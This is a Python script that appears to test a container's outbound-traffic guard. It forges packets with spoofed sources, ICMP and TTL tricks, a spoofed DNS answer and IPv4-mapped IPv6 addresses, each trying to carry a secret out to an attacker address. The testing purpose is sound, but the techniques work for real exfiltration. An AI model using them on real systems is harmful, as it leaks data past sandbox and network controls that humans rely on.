"""forged_source WAY FAMILY TURN: root in a container sends in others' names."""

way, family, turn = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
link = Link()
own, gateway, attacker, allowed = (x[family] for x in (BOX, RUN, ATTACKER, ALLOWED))
# On the uplink's network, and nobody there.
nobody = ("198.51.100.254", "2001:db8:1::fe")[family]
SYN, SYN_ACK, PUSH_ACK = 0x02, 0x12, 0x18
port = 4444 + turn
NUMBER = 0x53454352

if way == "refusal":
    # Whoever refuses a datagram sends it back: to a closed port, and to what
    # only a guard refuses.
    link.send(udp(attacker, port, gateway, 9999, SECRET))
    link.send(udp(attacker, port, nobody, 9999, SECRET))
    link.send(tcp(attacker, port, gateway, 9999, SYN, NUMBER))
    link.send(tcp(attacker, port, nobody, 9999, SYN, NUMBER))
elif way == "expiry":
    link.send(udp(attacker, port, nobody, 9999, SECRET, hops=1))
    link.send(udp(attacker, port, RESOLVER if family == V4 else nobody, 53, SECRET, hops=1))
elif way == "no_route":
    link.send(udp(attacker, port, ("0.9.9.9", "2001:db8:9999::1")[family], 9, SECRET))
elif way == "own_flow":
    link.send(udp(attacker, 4444, own, 6000 + turn, b"first"))
    time.sleep(0.1)
    answering = socket.socket(FAMILY[family], socket.SOCK_DGRAM)
    answering.bind((own, 6000 + turn))
    for _ in range(3):
        attempt(answering.sendto, SECRET, (attacker, 4444))
        time.sleep(0.05)
elif way == "allowed_flow":
    socket.getaddrinfo("allowed.test", 443)
    link.send(tcp(attacker, port, allowed, 443, SYN, 1000))
    time.sleep(0.1)
    link.send(tcp(allowed, 443, attacker, port, SYN_ACK, 5000, 1001))
    link.send(tcp(allowed, 443, attacker, port, PUSH_ACK, 5001, 1001, SECRET))
    link.send(udp(attacker, port, allowed, 443, b"first"))
    time.sleep(0.1)
    link.send(udp(allowed, 443, attacker, port, SECRET))
elif way == "greeting":
    # The answer to a greeting carries its number.
    link.send(tcp(attacker, port, gateway, 22, SYN, NUMBER))
elif way == "echo":
    kind = (8, 128)[family]
    body = struct.pack("!BBHHH", kind, 0, 0, 1, turn) + SECRET
    protocol = (1, 58)[family]
    over = b"" if family == V4 else pseudo(attacker, gateway, 58, len(body))
    summed = struct.pack("!H", checksum(over + body))
    link.send(ip(attacker, gateway, protocol, body[:2] + summed + body[4:]))
elif way == "answer":
    kind = (1, 28)[family]
    asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asking.bind(("", 7777 + turn))
    for number in (1, 2):
        message = query("allowed.test", number, kind)
        link.send(udp(BOX[V4], 7777 + turn, RESOLVER, 53, message))
        time.sleep(0.1)
    message = answer("allowed.test", attacker, 2)
    link.send(udp(RESOLVER, 53, BOX[V4], 7777 + turn, message))
    link.send(udp(BOX[V4], 7777 + turn, RESOLVER, 53, query("allowed.test", 3, kind)))
    link.send(udp(RESOLVER, 53, BOX[V4], 7777 + turn, answer("allowed.test", attacker, 3)))
    time.sleep(0.2)
    client = socket.socket(FAMILY[family], socket.SOCK_STREAM)
    client.settimeout(2)
    attempt(client.connect, (attacker, 443))
    attempt(client.send, SECRET)
elif way == "mapped":
    # To whom the policy allows, in the other family's clothes.
    socket.getaddrinfo("allowed.test", 443)
    link.send(udp(own, port, "::ffff:" + ALLOWED[V4], 443, SECRET))
    link.send(tcp(own, port, "::ffff:" + ALLOWED[V4], 443, SYN, 1, data=SECRET))
else:
    sys.exit("no such way")
time.sleep(0.3)
